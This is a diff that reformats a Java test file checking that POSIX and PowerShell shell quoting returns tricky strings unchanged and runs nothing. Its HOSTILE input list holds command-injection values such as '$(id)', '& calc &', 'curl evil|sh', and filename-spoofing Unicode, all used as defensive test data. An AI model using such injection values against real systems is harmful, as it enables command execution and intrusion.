@@ -4,13 +4,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import dev.blobdrop.commands.Run;
-
-import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.Timeout;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.CsvSource;
-import org.junit.jupiter.params.provider.ValueSource;
-
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.Arrays;
@@ -18,79 +11,83 @@ import java.util.List;
 import java.util.Map;
 import java.util.Optional;
 import java.util.Random;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /// What is quoted comes back from a real shell as it was, and nothing in it is run.
 @Timeout(60)
 class ShellTest {
-    private static final List<String> HOSTILE =
-            List.of(
-                    "",
-                    " ",
-                    "-rf",
-                    "--",
-                    "--%",
-                    "@file",
-                    "@",
-                    "~",
-                    "~root/x",
-                    "=ls",
-                    "!!",
-                    "it's",
-                    "'",
-                    "''",
-                    "\"",
-                    "a\"b\"c d",
-                    "\\",
-                    "a\\",
-                    "a b\\",
-                    "a b\\\\\"",
-                    "C:\\Users\\A B\\",
-                    "\\\\server\\share\\",
-                    "$(id)",
-                    "$HOME",
-                    "${x}",
-                    "`id`",
-                    "%PATH%",
-                    "100%",
-                    "%s%n",
-                    "a;b",
-                    "a&b",
-                    "a|b",
-                    "a>b",
-                    "a,b",
-                    "1kb",
-                    "0x10",
-                    "#",
-                    "*",
-                    "?",
-                    "[a]",
-                    "{a,b}",
-                    "(a)",
-                    "^",
-                    "x\" & calc & \"",
-                    "x;curl evil|sh;/",
-                    "a\nb",
-                    "\n",
-                    "a\n\n",
-                    "a\tb",
-                    "a\rb",
-                    "\u001b[2J",
-                    "\u007f",
-                    "\u009b31m",
-                    "a\u202egpj.exe",
-                    "a\u200bb",
-                    "a\u2028b",
-                    "\ufeffx",
-                    "a\\u202Eb",
-                    "a\\134b",
-                    "\u2018$(id)\u2019",
-                    "\u201A\u201B",
-                    "\u201C$(id)\u201D\u201E",
-                    "\u00a0",
-                    "a\u3000b",
-                    "gr\u00fc\u00dfe \u65e5\u672c \uD83D\uDE00",
-                    "\uD83D\uDC68\u200D\uD83D\uDCBB.txt",
-                    "-\u202e!%'\\");
+    private static final List<String> HOSTILE = List.of(
+            "",
+            " ",
+            "-rf",
+            "--",
+            "--%",
+            "@file",
+            "@",
+            "~",
+            "~root/x",
+            "=ls",
+            "!!",
+            "it's",
+            "'",
+            "''",
+            "\"",
+            "a\"b\"c d",
+            "\\",
+            "a\\",
+            "a b\\",
+            "a b\\\\\"",
+            "C:\\Users\\A B\\",
+            "\\\\server\\share\\",
+            "$(id)",
+            "$HOME",
+            "${x}",
+            "`id`",
+            "%PATH%",
+            "100%",
+            "%s%n",
+            "a;b",
+            "a&b",
+            "a|b",
+            "a>b",
+            "a,b",
+            "1kb",
+            "0x10",
+            "#",
+            "*",
+            "?",
+            "[a]",
+            "{a,b}",
+            "(a)",
+            "^",
+            "x\" & calc & \"",
+            "x;curl evil|sh;/",
+            "a\nb",
+            "\n",
+            "a\n\n",
+            "a\tb",
+            "a\rb",
+            "\u001b[2J",
+            "\u007f",
+            "\u009b31m",
+            "a\u202egpj.exe",
+            "a\u200bb",
+            "a\u2028b",
+            "\ufeffx",
+            "a\\u202Eb",
+            "a\\134b",
+            "\u2018$(id)\u2019",
+            "\u201A\u201B",
+            "\u201C$(id)\u201D\u201E",
+            "\u00a0",
+            "a\u3000b",
+            "gr\u00fc\u00dfe \u65e5\u672c \uD83D\uDE00",
+            "\uD83D\uDC68\u200D\uD83D\uDCBB.txt",
+            "-\u202e!%'\\");
 
     private static final String ALPHABET =
             "ab1 '\"\\$`%!~-@#&|;<>(){}[]*?=,^.:/\n\t\u001b\u009b\u202e\u200b\u2018\u2019\u201A"
@@ -101,8 +98,7 @@ class ShellTest {
         Random random = new Random(7);
         for (int i = 0; i < 400; i++) {
             StringBuilder word = new StringBuilder();
-            random.ints(random.nextInt(9), 0, ALPHABET.length())
-                    .forEach(at -> word.append(ALPHABET.charAt(at)));
+            random.ints(random.nextInt(9), 0, ALPHABET.length()).forEach(at -> word.append(ALPHABET.charAt(at)));
             words.add(word.toString());
         }
         return words;
@@ -115,18 +111,15 @@ class ShellTest {
         assumeTrue(shell.isPresent(), program + " is not installed");
         List<String> words = words();
         StringBuilder script = new StringBuilder("set -eu\n");
-        words.forEach(
-                word ->
-                        script.append("printf '%s\\0' ")
-                                .append(Shell.POSIX.line(List.of("x", word, "y")))
-                                .append('\n'));
+        words.forEach(word -> script.append("printf '%s\\0' ")
+                .append(Shell.POSIX.line(List.of("x", word, "y")))
+                .append('\n'));
 
-        Run run =
-                Run.of(
-                        Duration.ofSeconds(50),
-                        Map.of("PATH", "/usr/bin:/bin", "LC_ALL", "C.UTF-8"),
-                        script.toString(),
-                        List.of(shell.get(), "-s"));
+        Run run = Run.of(
+                Duration.ofSeconds(50),
+                Map.of("PATH", "/usr/bin:/bin", "LC_ALL", "C.UTF-8"),
+                script.toString(),
+                List.of(shell.get(), "-s"));
 
         assertThat(run.err()).isEmpty();
         List<String> back = Arrays.asList(run.out().split("\0", -1));
@@ -149,11 +142,9 @@ class ShellTest {
     @Test
     void whatIsQuotedCanBePrintedAsItIs() {
         for (String word : words()) {
-            assertThat(Visible.of(Shell.POWERSHELL.quoted(word)))
-                    .isEqualTo(Shell.POWERSHELL.quoted(word));
+            assertThat(Visible.of(Shell.POWERSHELL.quoted(word))).isEqualTo(Shell.POWERSHELL.quoted(word));
             if (!word.endsWith("\n")) {
-                assertThat(Visible.of(Shell.POSIX.quoted(word)))
-                        .isEqualTo(Shell.POSIX.quoted(word));
+                assertThat(Visible.of(Shell.POSIX.quoted(word))).isEqualTo(Shell.POSIX.quoted(word));
             }
         }
     }
